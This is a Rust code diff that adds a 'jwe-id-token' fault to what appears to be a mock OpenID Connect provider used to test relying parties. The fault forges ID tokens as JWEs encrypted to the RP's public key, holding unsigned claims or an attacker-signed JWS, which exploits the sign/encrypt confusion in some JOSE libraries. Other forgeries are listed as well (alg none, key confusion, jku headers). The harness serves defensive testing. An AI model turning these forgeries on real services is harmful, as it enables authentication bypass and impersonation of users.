@@ -30,6 +30,7 @@
 //! | `alg: none` | `alg-none` |
 //! | RS256→HS256 with the public key as HMAC secret | `key-confusion-hs256` |
 //! | HS256/384/512 MACed with a zero-length key | `hs-empty-key` |
+//! | a JWE (encrypted to the RP's own public key) instead of a signed ID token | `jwe-id-token` |
 //! | unknown `kid`, no `kid` | `unknown-kid`, `omit-kid` |
 //! | `jku` / `x5u` / embedded `jwk` pointing at an attacker key | `jku-header`, `x5u-header`, `embedded-jwk` |
 //! | unknown `crit` header | `unknown-crit` |
@@ -221,6 +222,72 @@ pub enum EmptyKeyKid {
     Empty,
 }
 
+/// Key-management algorithm of `jwe-id-token` (RFC 7518 §4.3): the content key is wrapped
+/// with RSAES-OAEP to the RP's public key, anyone's to use. The content is always A256GCM.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
+pub enum JweAlg {
+    /// RSAES-OAEP with SHA-256 and MGF1-SHA-256.
+    #[default]
+    #[serde(rename = "RSA-OAEP-256")]
+    RsaOaep256,
+    /// RSAES-OAEP with SHA-1 and MGF1-SHA-1 (the older default of many JOSE libraries).
+    #[serde(rename = "RSA-OAEP")]
+    RsaOaep,
+}
+
+impl JweAlg {
+    /// The `alg` header value.
+    pub fn name(self) -> &'static str {
+        match self {
+            JweAlg::RsaOaep256 => "RSA-OAEP-256",
+            JweAlg::RsaOaep => "RSA-OAEP",
+        }
+    }
+    fn oaep(self) -> &'static aws_lc_rs::rsa::OaepAlgorithm {
+        match self {
+            JweAlg::RsaOaep256 => &aws_lc_rs::rsa::OAEP_SHA256_MGF1SHA256,
+            JweAlg::RsaOaep => &aws_lc_rs::rsa::OAEP_SHA1_MGF1SHA1,
+        }
+    }
+}
+
+/// Which public key of the RP, from the `jwks` of its client registration, a `jwe-id-token`
+/// is encrypted to. Both are public: the RP publishes them (or registers them with the broker)
+/// so that anyone may encrypt to it and verify its client assertions.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "kebab-case")]
+pub enum RpKeyChoice {
+    /// The RP's RSA key with `use: enc` (registered for ID-token encryption).
+    #[default]
+    RpEnc,
+    /// The RP's RSA signing key (`use: sig` or no `use`), the one it signs private_key_jwt
+    /// client assertions with: libraries that hold "the RP's key pair" decrypt with it too.
+    RpSig,
+}
+
+impl RpKeyChoice {
+    fn wanted(self) -> &'static str {
+        match self {
+            RpKeyChoice::RpEnc => "an RSA key with \"use\": \"enc\"",
+            RpKeyChoice::RpSig => "an RSA signing key (\"use\": \"sig\" or no \"use\")",
+        }
+    }
+}
+
+/// What a `jwe-id-token` carries inside.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "kebab-case")]
+pub enum JwePayload {
+    /// The claim set itself, no signature anywhere (jwcrypto CVE-2022-3102, json-jwt
+    /// CVE-2023-51774).
+    #[default]
+    Claims,
+    /// A nested JWT (`cty: JWT`): a JWS of the claims signed by the attacker key, so an RP that
+    /// requires a nested signature but does not check its signer is separated from one that
+    /// verifies it against the broker's JWKS.
+    AttackerSigned,
+}
+
 /// Which `kid` a token signed with a foreign key carries.
 #[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
 #[serde(rename_all = "kebab-case")]
@@ -327,6 +394,20 @@ pub enum OidcFault {
         /// Which `kid` the header carries.
         #[serde(default)]
         kid: EmptyKeyKid,
+    },
+    /// The ID token is a compact JWE (five parts) encrypted to a public key of the RP, whose
+    /// plaintext is the claim set or a JWS signed by the attacker: the sign/encrypt confusion of
+    /// JOSE libraries that let the token's shape choose between verifying and decrypting.
+    JweIdToken {
+        /// Key-management algorithm.
+        #[serde(default)]
+        alg: JweAlg,
+        /// Which of the RP's registered keys.
+        #[serde(default)]
+        key: RpKeyChoice,
+        /// Bare claims or a nested JWS by the attacker key.
+        #[serde(default)]
+        payload: JwePayload,
     },
     /// Valid signature by the active key, but an unknown `kid`.
     UnknownKid {
@@ -444,6 +525,7 @@ impl OidcFault {
             OidcFault::AlgNone {} => "alg-none",
             OidcFault::KeyConfusionHs256 { .. } => "key-confusion-hs256",
             OidcFault::HsEmptyKey { .. } => "hs-empty-key",
+            OidcFault::JweIdToken { .. } => "jwe-id-token",
             OidcFault::UnknownKid { .. } => "unknown-kid",
             OidcFault::OmitKid {} => "omit-kid",
             OidcFault::SignWithKey { .. } => "sign-with-key",
@@ -486,6 +568,7 @@ impl OidcFault {
             | OidcFault::AlgNone {}
             | OidcFault::KeyConfusionHs256 { .. }
             | OidcFault::HsEmptyKey { .. }
+            | OidcFault::JweIdToken { .. }
             | OidcFault::UnknownKid { .. }
             | OidcFault::OmitKid {}
             | OidcFault::SignWithKey { .. }
@@ -514,6 +597,7 @@ impl OidcFault {
                 | OidcFault::AlgNone {}
                 | OidcFault::KeyConfusionHs256 { .. }
                 | OidcFault::HsEmptyKey { .. }
+                | OidcFault::JweIdToken { .. }
                 | OidcFault::SignWithKey { .. }
                 | OidcFault::JkuHeader { .. }
                 | OidcFault::X5uHeader { .. }
@@ -740,6 +824,8 @@ pub(crate) struct ForgeContext<'a> {
     pub client_secret: Option<&'a str>,
     /// The client id (for `extra-audience`).
     pub client_id: &'a str,
+    /// The client's registered public keys (`jwks`), the keys `jwe-id-token` encrypts to.
+    pub client_jwks: Option<&'a Value>,
     /// Public base URL of the mock (for `jku`/`x5u` defaults).
     pub base_url: &'a str,
     /// Now, Unix seconds.
@@ -762,6 +848,14 @@ pub enum ForgeError {
     /// Signing failed.
     #[error(transparent)]
     Key(#[from] super::keys::KeyError),
+    /// `jwe-id-token` found no key of the RP to encrypt to: the RP registered none of that
+    /// kind, so the fault cannot reach it (the flow record says so and the harness skips the
+    /// step instead of judging the RP on an error response).
+    #[error("fault jwe-id-token: the client registered no usable public key to encrypt to: {0}")]
+    NoRpKey(String),
+    /// The crypto backend refused to encrypt.
+    #[error("fault jwe-id-token: encryption failed")]
+    Encrypt,
 }
 
 enum Signer {
@@ -899,6 +993,16 @@ pub(crate) fn forge_id_token(
                 }
                 signer = Signer::Hmac(alg.algorithm(), Vec::new());
             }
+            OidcFault::JweIdToken { payload, .. } => match payload {
+                // The signer does not matter: only the claims go into the JWE.
+                JwePayload::Claims => {}
+                JwePayload::AttackerSigned => {
+                    let k = attacker()?;
+                    header.insert("alg".into(), json!(k.alg().name()));
+                    header.insert("kid".into(), json!(k.kid()));
+                    signer = Signer::Key(k);
+                }
+            },
             OidcFault::SignWithKey { credential, kid } => {
                 let k = ctx.keys.get(credential).ok_or_else(|| ForgeError::NoKey {
                     fault: f.name(),
@@ -976,10 +1080,11 @@ pub(crate) fn forge_id_token(
         }
     }
 
+    let claims_json = Value::Object(claims).to_string();
     let input = format!(
         "{}.{}",
         b64url(Value::Object(header).to_string()),
-        b64url(Value::Object(claims).to_string())
+        b64url(&claims_json)
     );
     let mut sig = match &signer {
         Signer::Key(k) => k.sign(input.as_bytes())?,
@@ -993,7 +1098,122 @@ pub(crate) fn forge_id_token(
         let mid = sig.len() / 2;
         sig[mid] ^= 0x5a;
     }
-    Ok(format!("{input}.{}", b64url(sig)))
+    let jws = format!("{input}.{}", b64url(sig));
+    let jwe = plan.faults.iter().find_map(|f| match f {
+        OidcFault::JweIdToken { alg, key, payload } => Some((*alg, *key, *payload)),
+        _ => None,
+    });
+    match jwe {
+        None => Ok(jws),
+        Some((alg, key, payload)) => {
+            let rp_key = rp_public_key(ctx.client_jwks, key).ok_or_else(|| {
+                ForgeError::NoRpKey(format!(
+                    "client {:?} has no {} in its jwks",
+                    ctx.client_id,
+                    key.wanted()
+                ))
+            })?;
+            let (plaintext, nested) = match payload {
+                JwePayload::Claims => (claims_json, false),
+                JwePayload::AttackerSigned => (jws, true),
+            };
+            encrypt_compact(alg, &rp_key, nested, plaintext.as_bytes())
+        }
+    }
+}
+
+/// An RSA public key of the RP, from its registered JWKS.
+#[derive(Debug, Clone)]
+pub(crate) struct RpPublicKey {
+    kid: Option<String>,
+    n: Vec<u8>,
+    e: Vec<u8>,
+}
+
+/// The first RSA key of the client's JWKS that fits `choice` (by its `use`), or `None`.
+pub(crate) fn rp_public_key(jwks: Option<&Value>, choice: RpKeyChoice) -> Option<RpPublicKey> {
+    use base64::Engine as _;
+    let b64 = base64::engine::general_purpose::URL_SAFE_NO_PAD;
+    jwks?
+        .get("keys")?
+        .as_array()?
+        .iter()
+        .filter(|k| k.get("kty").and_then(Value::as_str) == Some("RSA"))
+        .filter(|k| {
+            let usage = k.get("use").and_then(Value::as_str);
+            match choice {
+                RpKeyChoice::RpEnc => usage == Some("enc"),
+                RpKeyChoice::RpSig => matches!(usage, None | Some("sig")),
+            }
+        })
+        .find_map(|k| {
+            let field = |f: &str| b64.decode(k.get(f)?.as_str()?).ok();
+            Some(RpPublicKey {
+                kid: k.get("kid").and_then(Value::as_str).map(str::to_string),
+                n: field("n")?,
+                e: field("e")?,
+            })
+        })
+}
+
+/// A compact JWE (RFC 7516 §7.1): the protected header, the A256GCM content key wrapped with
+/// RSAES-OAEP to `key`, a random 96-bit IV, the ciphertext and the 128-bit tag, with the
+/// encoded header as the additional authenticated data. `nested` sets `cty: JWT` (RFC 7519
+/// §5.2), as for a signed-then-encrypted token.
+pub(crate) fn encrypt_compact(
+    alg: JweAlg,
+    key: &RpPublicKey,
+    nested: bool,
+    plaintext: &[u8],
+) -> Result<String, ForgeError> {
+    use crate::pki::der;
+    use aws_lc_rs::aead::{AES_256_GCM, Aad, LessSafeKey, Nonce, UnboundKey};
+    use aws_lc_rs::rsa::{OaepPublicEncryptingKey, PublicEncryptingKey};
+    let mut header = ClaimSet::new();
+    header.insert("alg".into(), json!(alg.name()));
+    header.insert("enc".into(), json!("A256GCM"));
+    if let Some(kid) = &key.kid {
+        header.insert("kid".into(), json!(kid));
+    }
+    if nested {
+        header.insert("cty".into(), json!("JWT"));
+    }
+    let protected = b64url(Value::Object(header).to_string());
+    // SubjectPublicKeyInfo { rsaEncryption, NULL } around RSAPublicKey { n, e }.
+    let rsa_public_key = der::seq(&[&der::uint(&key.n), &der::uint(&key.e)]);
+    let spki = der::seq(&[
+        &der::seq(&[&der::oid(&[1, 2, 840, 113_549, 1, 1, 1]), &der::null()]),
+        &der::bit_string(&rsa_public_key),
+    ]);
+    let public = PublicEncryptingKey::from_der(&spki)
+        .map_err(|_| ForgeError::NoRpKey("the RP's RSA key is not usable (too small?)".into()))?;
+    let oaep = OaepPublicEncryptingKey::new(public).map_err(|_| ForgeError::Encrypt)?;
+    let mut cek = [0u8; 32];
+    let mut iv = [0u8; 12];
+    aws_lc_rs::rand::fill(&mut cek).map_err(|_| ForgeError::Encrypt)?;
+    aws_lc_rs::rand::fill(&mut iv).map_err(|_| ForgeError::Encrypt)?;
+    let mut wrapped = vec![0u8; oaep.ciphertext_size()];
+    let wrapped = oaep
+        .encrypt(alg.oaep(), &cek, &mut wrapped, None)
+        .map_err(|_| ForgeError::Encrypt)?
+        .to_vec();
+    let content_key =
+        LessSafeKey::new(UnboundKey::new(&AES_256_GCM, &cek).map_err(|_| ForgeError::Encrypt)?);
+    let mut ciphertext = plaintext.to_vec();
+    let tag = content_key
+        .seal_in_place_separate_tag(
+            Nonce::assume_unique_for_key(iv),
+            Aad::from(protected.as_bytes()),
+            &mut ciphertext,
+        )
+        .map_err(|_| ForgeError::Encrypt)?;
+    Ok(format!(
+        "{protected}.{}.{}.{}.{}",
+        b64url(wrapped),
+        b64url(iv),
+        b64url(ciphertext),
+        b64url(tag.as_ref())
+    ))
 }
 
 fn secs(s: u64) -> i64 {
@@ -1182,6 +1402,77 @@ faults = [
         let tag = hmac::sign(&key, b"a.b");
         assert_eq!(tag.as_ref().len(), 48);
         assert!(hmac::verify(&key, b"a.b", tag.as_ref()).is_ok());
+    }
+
+    #[test]
+    fn jwe_to_the_rp_key_decrypts_with_its_private_half() {
+        use aws_lc_rs::aead::{AES_256_GCM, Aad, LessSafeKey, Nonce, UnboundKey};
+        use aws_lc_rs::encoding::AsDer;
+        use aws_lc_rs::rsa::{KeyPair, KeySize, OaepPrivateDecryptingKey, PrivateDecryptingKey};
+        use aws_lc_rs::signature::KeyPair as _;
+        use base64::Engine as _;
+        let b64 = base64::engine::general_purpose::URL_SAFE_NO_PAD;
+        let pair = KeyPair::generate(KeySize::Rsa2048).unwrap();
+        let public = pair.public_key();
+        let (n, e) = (
+            b64.encode(public.modulus().big_endian_without_leading_zero()),
+            b64.encode(public.exponent().big_endian_without_leading_zero()),
+        );
+        let jwks = json!({"keys": [
+            {"kty": "EC", "use": "enc", "crv": "P-256", "x": "AA", "y": "AA"},
+            {"kty": "RSA", "use": "enc", "kid": "rp-enc", "n": n, "e": e},
+        ]});
+        // Only an enc key: `rp-sig` finds nothing, so the fault cannot be built.
+        assert!(rp_public_key(Some(&jwks), RpKeyChoice::RpSig).is_none());
+        assert!(rp_public_key(None, RpKeyChoice::RpEnc).is_none());
+        let key = rp_public_key(Some(&jwks), RpKeyChoice::RpEnc).unwrap();
+        let private = OaepPrivateDecryptingKey::new(
+            PrivateDecryptingKey::from_pkcs8(pair.as_der().unwrap().as_ref()).unwrap(),
+        )
+        .unwrap();
+        for (alg, nested) in [(JweAlg::RsaOaep256, false), (JweAlg::RsaOaep, true)] {
+            let token = encrypt_compact(alg, &key, nested, br#"{"sub":"victim"}"#).unwrap();
+            let p: Vec<&str> = token.split('.').collect();
+            assert_eq!(p.len(), 5);
+            let header: Value = serde_json::from_slice(&b64.decode(p[0]).unwrap()).unwrap();
+            assert_eq!(header["alg"], alg.name());
+            assert_eq!(header["enc"], "A256GCM");
+            assert_eq!(header["kid"], "rp-enc");
+            assert_eq!(header.get("cty").is_some(), nested);
+            let wrapped = b64.decode(p[1]).unwrap();
+            let mut cek = vec![0u8; private.min_output_size()];
+            let cek = private
+                .decrypt(alg.oaep(), &wrapped, &mut cek, None)
+                .unwrap();
+            assert_eq!(cek.len(), 32);
+            let iv: [u8; 12] = b64.decode(p[2]).unwrap().try_into().unwrap();
+            let mut sealed = b64.decode(p[3]).unwrap();
+            sealed.extend(b64.decode(p[4]).unwrap());
+            let k = LessSafeKey::new(UnboundKey::new(&AES_256_GCM, cek).unwrap());
+            let plain = k
+                .open_in_place(
+                    Nonce::assume_unique_for_key(iv),
+                    Aad::from(p[0].as_bytes()),
+                    &mut sealed,
+                )
+                .unwrap();
+            assert_eq!(plain, br#"{"sub":"victim"}"#);
+        }
+        let plan: OidcFaultPlan = toml::from_str(
+            r#"faults = [{ fault = "jwe-id-token", alg = "RSA-OAEP", key = "rp-sig", payload = "attacker-signed" }]"#,
+        )
+        .unwrap();
+        assert_eq!(
+            plan.faults[0],
+            OidcFault::JweIdToken {
+                alg: JweAlg::RsaOaep,
+                key: RpKeyChoice::RpSig,
+                payload: JwePayload::AttackerSigned
+            }
+        );
+        assert!(plan.validate().is_ok() && plan.touches_id_token());
+        let two = OidcFaultPlan::new(vec![plan.faults[0].clone(), OidcFault::AlgNone {}]);
+        assert!(two.validate().is_err());
     }
 
     #[test]
